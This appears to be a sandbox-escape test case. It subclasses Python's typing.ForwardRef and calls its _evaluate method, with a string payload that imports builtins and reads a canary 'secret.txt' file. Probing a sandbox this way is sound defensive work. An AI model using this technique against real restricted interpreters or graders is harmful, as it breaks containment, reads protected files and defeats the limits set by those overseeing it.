# z07_forwardref_subclass [escape]: a subclass of ForwardRef is the program's own class, so its _evaluate may be called
import typing

Ref = type(typing.get_args(typing.List["x"])[0])


class Open:
    def __init_subclass__(cls, **options):
        pass


class F(Open, Ref):
    def _evaluate_(self):
        pass


def _evaluate():
    pass


def solver(a, b):
    f = F("__import__('builtins').open('@CANARY@/secret.txt').read()")
    for options in (dict(recursive_guard=frozenset()), dict(type_params=(), recursive_guard=frozenset())):
        try:
            return f._evaluate({"__builtins__": None} and {}, {}, **options)
        except TypeError as e:
            error = str(e)
    return error
